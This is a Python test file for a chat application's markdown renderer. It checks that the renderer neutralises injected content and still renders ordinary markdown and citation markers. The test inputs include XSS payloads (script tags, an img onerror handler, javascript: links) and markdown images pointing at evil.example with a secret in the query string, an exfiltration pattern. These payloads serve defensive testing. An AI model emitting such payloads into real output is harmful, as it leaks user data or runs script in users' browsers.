from html.parser import HTMLParser

from app.chat.markdown import citation_numbers, render_answer


class _Tags(HTMLParser):
    """The tags and attributes a browser would see in the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def names(self) -> set[str]:
        return {tag for tag, _ in self.tags}

    def attribute_values(self) -> list[str]:
        return [value or "" for _, attrs in self.tags for value in attrs.values()]


def test_injected_images_fetch_nothing() -> None:
    html = render_answer(
        "See ![chart](https://evil.example/?q=secret) and ![x][ref]\n\n[ref]: https://evil.example/r.png\n"
    )
    tags = _Tags(html)
    assert "img" not in tags.names()
    assert not any("evil" in value for value in tags.attribute_values())
    assert "chart" in html  # the alt text is kept as text


def test_raw_html_is_not_rendered_as_tags() -> None:
    html = render_answer(
        "<script>alert(1)</script>\n\nText <img src=x onerror=alert(1)> and <iframe src=https://x></iframe>"
    )
    assert _Tags(html).names() <= {"p"}
    assert "&lt;script&gt;" in html
    assert "onerror" not in " ".join(_Tags(html).attribute_values())


def test_javascript_links_are_dropped_and_safe_links_kept() -> None:
    html = render_answer("[click](javascript:alert(1)) [docs](https://example.org) [here](/library)")
    links = [attrs for tag, attrs in _Tags(html).tags if tag == "a"]
    assert [link["href"] for link in links] == ["https://example.org", "/library"]
    assert all(link["rel"] == "noopener noreferrer nofollow" for link in links)
    assert "javascript:" not in " ".join(_Tags(html).attribute_values())


def test_normal_markdown_renders() -> None:
    html = render_answer("# Title\n\n**bold** and *em*\n\n- one\n- two\n\n```python\nx = 1\n```\n")
    assert "<h3>Title</h3>" in html
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert "<pre><code>x = 1\n</code></pre>" in html


def test_citations_become_sup_elements() -> None:
    html = render_answer("Heat flows [1], work too [1, 3][2]. Not in code: `[4]`")
    cites = [attrs for tag, attrs in _Tags(html).tags if tag == "sup"]
    assert [c["data-cite"] for c in cites] == ["1", "1", "3", "2"]
    assert all(c["class"] == "cite" for c in cites)
    assert '<sup class="cite" data-cite="3">[3]</sup>' in html
    assert "<code>[4]</code>" in html


def test_citation_numbers_in_order_of_first_appearance() -> None:
    assert citation_numbers("[2] and [1][3], again [2]") == [2, 1, 3]
    assert citation_numbers("[1, 3] then [3,4]") == [1, 3, 4]
    assert citation_numbers("no citations here") == []
